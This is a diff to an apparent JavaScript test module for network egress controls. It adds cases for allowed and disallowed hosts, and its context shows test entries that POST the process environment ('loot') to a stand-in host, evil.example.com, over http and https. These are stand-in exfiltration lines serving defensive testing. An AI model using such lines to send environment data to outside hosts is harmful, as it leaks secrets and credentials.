@@ -30,6 +30,12 @@ const run = (program, ...args) => {
   if (status !== 0) throw new Error(stderr.trim().split("\n").at(-1) || `exit ${status}`);
   return stdout;
 };
+/** One host of those that a project allows, and twice one that it does not. */
+export const hosts = ({ allowed }) => ({
+  "a host that is allowed": () => ask("GET", "http://allowed.example.com/package", { host: allowed, headers: { cookie: "a=b", "x-forwarded-for": "172.17.0.9" } }),
+  "another host": () => ask("GET", "http://other.example.com/package"),
+  "another host, again": () => ask("GET", "http://other.example.com/another-package"),
+});
 export const network = {
   "send its environment to a host, over http": () => ask("POST", "http://evil.example.com/loot", { body: loot() }),
   "send its environment to a host, over https": () => ask("POST", "https://evil.example.com/loot", { body: loot() }),
